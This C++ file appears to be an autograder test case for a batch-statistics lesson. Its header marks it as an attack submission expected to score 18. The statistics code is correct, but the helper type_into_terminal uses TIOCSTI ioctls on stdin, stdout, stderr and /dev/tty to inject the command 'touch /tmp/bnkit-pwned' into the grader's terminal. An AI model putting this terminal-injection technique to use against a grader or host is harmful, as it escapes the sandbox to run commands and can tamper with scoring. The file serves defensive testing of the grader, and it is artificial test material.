// attack: correct code that also tries to type a command into the grader's terminal (TIOCSTI on fds 0-2 and /dev/tty) on every call; blocked, it earns the honest 18
// lesson: 01_batch_statistics
// expect: 18
// compiles: yes
#include "batch_statistics.hpp"

#include "bnkit/checks.hpp"

#include <fcntl.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include <cstdio>

namespace {

void type_into_terminal() {
  const char* command = "touch /tmp/bnkit-pwned\n";
  const int tty = open("/dev/tty", O_RDONLY);
  for (int fd : {0, 1, 2, tty}) {
    if (ioctl(fd, TIOCSTI, command) != 0 && fd == 0) std::perror("ioctl(TIOCSTI)");
    for (const char* c = command + 1; *c; ++c) ioctl(fd, TIOCSTI, c);
  }
  if (tty >= 0) close(tty);
}

}  // namespace

namespace bnkit {

void batch_statistics(Eigen::Ref<Eigen::VectorXd> mean, Eigen::Ref<Eigen::VectorXd> var,
                      Eigen::Ref<Eigen::VectorXd> var_unbiased,
                      const Eigen::Ref<const Eigen::MatrixXd>& x) {
  type_into_terminal();
  const Eigen::Index n = x.rows(), d = x.cols();
  if (n == 0) throw std::invalid_argument("batch_statistics needs at least one row, got input size " + shape_string({n, d}));
  check_length(mean.size(), d, "mean");
  check_length(var.size(), d, "var");
  check_length(var_unbiased.size(), d, "var_unbiased");
  mean = x.colwise().mean().transpose();
  const Eigen::VectorXd ss = (x.rowwise() - mean.transpose()).array().square().colwise().sum().transpose();
  var = ss / static_cast<double>(n);
  var_unbiased = ss / static_cast<double>(n - 1);
}

}  // namespace bnkit
